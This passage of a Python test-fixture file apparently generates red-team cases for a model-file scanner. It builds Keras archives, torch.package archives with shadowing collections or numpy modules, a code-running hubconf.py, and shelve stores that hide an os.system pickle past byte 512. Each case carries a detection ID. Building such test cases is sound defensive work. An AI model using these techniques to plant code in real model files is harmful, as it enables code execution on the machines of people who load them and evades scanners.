        "inbound_nodes": [{"args": [{"class_name": "__keras_tensor__", "config": {
            "shape": [None, 1], "dtype": "float32", "keras_history": ["input_layer", 0, 0]}}], "kwargs": {"mask": None}}],
    }
    inp = {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None, "name": "input_layer",
           "inbound_nodes": [], "config": {"batch_shape": [None, 1], "dtype": "float32", "sparse": False,
                                           "ragged": False, "name": "input_layer", "optional": False}}
    return {"module": "keras.src.models.functional", "class_name": "Functional", "registered_name": "Functional",
            "config": {"name": "functional", "trainable": True, "layers": [inp, lam],
                       "input_layers": ["input_layer", 0, 0], "output_layers": ["lambda", 0, 0]},
            "build_config": {"input_shape": None}, "compile_config": {}}


def r20_empty_npz() -> bytes:
    """np.savez() of nothing: a zip with no members (Keras 3 accepts model.weights.npz)."""
    return _zip({})


def r20_keras_zip(members: dict[str, bytes], config: bytes | None = None) -> bytes:
    return _zip({"config.json": config if config is not None else json.dumps(r20_keras_config()).encode(), **members})


def round20_keras_cases() -> list[Case]:
    meta = json.dumps({"keras_version": "3.15.1", "date_saved": "2026-12-07@05:45:00"}).encode()
    pkl = b"\x80\x02}q\x00X\x01\x00\x00\x00wq\x01K\x01s."  # {'w': 1}: a benign data.pkl (no import)
    cfg = json.dumps(r20_keras_config())
    return [
        Case("round20_keras_with_data_pkl", "3",
             "a .keras (metadata.json, config.json, weights) plus data.pkl and version: taken for a PyTorch zip",
             "keras", KERAS, "withpkl.keras",
             r20_keras_zip({"metadata.json": meta, "model.weights.npz": r20_empty_npz(), "data.pkl": pkl, "version": b"3\n"})),
        Case("round20_keras_no_metadata", "1", "config.json and an (empty) model.weights.npz, no metadata.json",
             "keras", KERAS, "nometa.keras", r20_keras_zip({"model.weights.npz": r20_empty_npz()})),
        Case("round20_keras_config_only", "1", "config.json alone: Keras runs the Lambda, then misses the weights",
             "keras", KERAS, "bare.keras", r20_keras_zip({})),
        Case("round20_keras_utf16_config", "2",
             "config.json in UTF-16 (json.loads of the member's bytes detects it), no metadata.json",
             "keras", KERAS, "utf16.keras",
             r20_keras_zip({"model.weights.npz": r20_empty_npz()}, cfg.encode("utf-16"))),
        Case("round20_keras_bom_config", "2", "config.json with a UTF-8 BOM, beside metadata.json",
             "keras", KERAS, "bom.keras",
             r20_keras_zip({"metadata.json": meta, "model.weights.npz": r20_empty_npz()}, b"\xef\xbb\xbf" + cfg.encode())),
        Case("round20_keras_folder", "1", "the unzipped form: a folder's config.json (load_model(folder))",
             "keras", KERAS, "kdir/config.json", cfg.encode()),
    ]
# ======== END red team round 20, class B ================================================================


# ======== red team round 21, classes A and B (code shipped with a model) ================================
# A: a torch.package archive (PackageExporter's layout: <root>/.data/extern_modules, .data/version, *.py modules,
# resources) whose pickle names a module the archive ships. PackageImporter.load_pickle resolves globals against
# the archive first, so an allowlisted name (collections.OrderedDict, numpy.dtype) runs the shipped source
# (loader "torch_package": PackageImporter(path).load_pickle("model", "model.pkl")).
# B: torch.hub's hubconf.py, executed by torch.hub.load(dir, model, source='local') with no trust prompt
# (loader "torch_hub"). Built by hand: what PackageExporter writes, without torch.

def r21_torch_package(modules: dict[str, str], program: bytes, extern: tuple[str, ...] = ("os",),
                      marker: str = ".data/extern_modules") -> bytes:
    """A torch.package archive (root "archive") shipping ``modules`` ({record path: source}) and the resource
    ``model/model.pkl`` = ``program``; ``marker`` names the extern-modules record (round 22: any case)."""
    members = {
        "archive/model/model.pkl": program,
        **{f"archive/{path}": source.encode() for path, source in modules.items()},
        f"archive/{marker}": "".join(f"{name}\n" for name in extern).encode(),
        "archive/.data/python_version": b"3.11.7",
        "archive/.data/version": b"6\n",
        "archive/byteorder": b"little",
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def r21_global_pickle(module: str, name: str) -> bytes:
    """Protocol 2: ``module.name()`` (GLOBAL, EMPTY_TUPLE, REDUCE)."""
    return b"\x80\x02c" + module.encode() + b"\n" + name.encode() + b"\n)R."


def round21_cases() -> list[Case]:
    shadow = ACT + "\nfrom _collections import OrderedDict\n"
    return [
        Case("round21_torchpkg_collections", "1",
             "torch.package ships collections/__init__.py; the pickle calls the allowlisted collections.OrderedDict",
             "torch_package", "WW-PKL-014", "model.pt",
             r21_torch_package({"collections/__init__.py": shadow}, r21_global_pickle("collections", "OrderedDict"))),
        Case("round21_torchpkg_numpy", "1",
             "torch.package ships numpy/__init__.py (numpy is on PackageImporter's implicit allowlist); pickle numpy.dtype",
             "torch_package", "WW-PKL-014", "weights.pt",
             r21_torch_package({"numpy/__init__.py": ACT + "\ndtype = dict\n"}, r21_global_pickle("numpy", "dtype"))),
        Case("round21_torchpkg_own_module", "1",
             "torch.package ships its model class's module (mymodel/net.py), which runs code at import",
             "torch_package", "WW-PKL-014", "package.zip",
             r21_torch_package({"mymodel/__init__.py": "", "mymodel/net.py": ACT + "\nNet = dict\n"},
                               r21_global_pickle("mymodel.net", "Net"))),
        Case("round21_hubconf", "7", "torch.hub repository: hubconf.py runs at torch.hub.load(dir, source='local')",
             "torch_hub", "WW-CODE-003", "hubrepo/hubconf.py",
             (f"dependencies = []\n{ACT}\n\ndef model():\n    return {{'w': 1}}\n").encode()),
    ]
# ======== END red team round 21, classes A and B ========================================================


# ======== red team round 22, classes A and B (stores of pickled values; torch.package marker case) ==========
# A: a shelve on dbm.dumb (X.dat values, X.dir text index "'key', (pos, size)"); shelve.open(X)[key] unpickles the
# slice the index names, not byte 0 (loader "shelve": every key of shelve.open(base, 'r') is read).
# The payload is os.system: exec(ACT) would run with shelve's globals, where open is shelve.open. Built by hand
# in dbm.dumb's layout (values block-aligned to 512 bytes with NUL padding, one index line per key).
# B: the torch.package marker renamed .data/EXTERN_MODULES (miniz finds records case-insensitively).

def r22_dumb_store(values: list[tuple[str, bytes]]) -> tuple[bytes, bytes]:
    """(X.dat, X.dir) of a dbm.dumb database holding ``values`` in order, as dbm.dumb writes them."""
    dat = bytearray()
    index = []
    for key, value in values:
        pos = (len(dat) + 511) // 512 * 512
        dat += b"\x00" * (pos - len(dat)) + value
        index.append(f"{key!r}, {(pos, len(value))!r}\n")
    return bytes(dat), "".join(index).encode("latin-1")


def round22_cases() -> list[Case]:
    import pickle as _pickle  # the writer side only: dumps, never loads

    def shelf(name: str, technique: str, first: bytes, proto: int) -> Case:
        dat, index = r22_dumb_store([("first", first), ("w", _call("os", "system", SHELL)(proto))])
        return Case(name, "1", technique, "shelve", CRIT, "store.dat", dat,
                    extra=(("store.dir", index), ("store.bak", index)))

    text = (b"# model store: weights under key 'w'\n" + b"see README for the layout of this store.\n" * 12)[:511] + b"\n"
    return [
        shelf("round22_shelve_text_first", "shelve/dbm.dumb: a 512-byte text value first, a protocol-0 pickle at 512 "
              "(the whole .dat is printable text)", text, 0),
        shelf("round22_shelve_nul_first", "shelve/dbm.dumb: 64 NUL bytes first, the pickle at offset 512", b"\x00" * 64, 4),
        shelf("round22_shelve_benign_first", "shelve/dbm.dumb: a benign pickled dict first, NUL padding, the payload at 512",
              _pickle.dumps({"hidden": 4, "layers": 2}, protocol=4), 4),
        Case("round22_torchpkg_marker_case", "1",
             "torch.package whose marker is .data/EXTERN_MODULES (miniz finds it case-insensitively); the pickle calls "
             "the allowlisted collections.OrderedDict the archive ships",
             "torch_package", "WW-PKL-014", "model.pt",
             r21_torch_package({"collections/__init__.py": ACT + "\nfrom _collections import OrderedDict\n"},
                               r21_global_pickle("collections", "OrderedDict"), marker=".data/EXTERN_MODULES")),
    ]
# ======== END red team round 22 ==========================================================================
